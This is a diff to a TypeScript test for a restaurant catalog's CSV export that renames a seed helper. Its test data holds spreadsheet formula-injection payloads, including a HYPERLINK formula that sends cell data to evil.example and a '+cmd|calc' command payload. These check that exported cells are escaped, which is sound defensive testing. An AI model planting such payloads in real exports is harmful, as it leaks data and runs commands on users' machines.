@@ -5,7 +5,7 @@ import { exportCatalog } from '#server/catalog/import/exportCatalog.ts';
 import { escapedCell, unescapedCell } from '#server/catalog/import/formulaCells.ts';
 import { readTables } from '#server/catalog/import/readTables.ts';
 import { runs } from '#tests/support/runs.ts';
-import { aDish, aRestaurant, aSeed } from '../support/aSeed.ts';
+import { aCatalogDocument, aDish, aRestaurant } from '../support/aCatalogDocument.ts';
 import { openTestShop } from '../support/openTestShop.ts';
 
 const MARKET = { currency: 'RUB', timezone: '+03:00' };
@@ -14,7 +14,7 @@ const FORMULAS = ['=HYPERLINK("https://evil.example?"&A1)', '+1+cmd|calc', '-2+3
 describe('tables that are exported', () => {
   it('open in a spreadsheet: UTF-8 with a mark, and no cell begins as a formula', async () => {
     const shop = await openTestShop({
-      seed: aSeed({
+      document: aCatalogDocument({
         restaurants: [aRestaurant({ phones: ['+79005550000'], location: [-10.5, -20.5], zones: [] })],
         dishes: FORMULAS.map((name, index) => aDish({ id: `dish-${index}`, name, description: { en: name } })),
       }),
@@ -28,7 +28,7 @@ describe('tables that are exported', () => {
       tables.set(name.replace('.csv', ''), String(content));
     }
     const source = readTables(tables);
-    const { seed, faults } = applyEntries({
+    const { document, faults } = applyEntries({
       current: EMPTY_CATALOG,
       source,
       market: MARKET,
@@ -36,9 +36,9 @@ describe('tables that are exported', () => {
       replace: false,
     });
     expect(faults).toEqual([]);
-    expect(seed.dishes.map(({ name }) => name)).toEqual(FORMULAS);
-    expect(seed.dishes.map(({ description }) => description)).toEqual(FORMULAS.map((en) => ({ en })));
-    expect(seed.restaurants[0]).toMatchObject({ phones: ['+79005550000'], location: [-10.5, -20.5] });
+    expect(document.dishes.map(({ name }) => name)).toEqual(FORMULAS);
+    expect(document.dishes.map(({ description }) => description)).toEqual(FORMULAS.map((en) => ({ en })));
+    expect(document.restaurants[0]).toMatchObject({ phones: ['+79005550000'], location: [-10.5, -20.5] });
   });
 
   it('keep any text through the escape', () => {
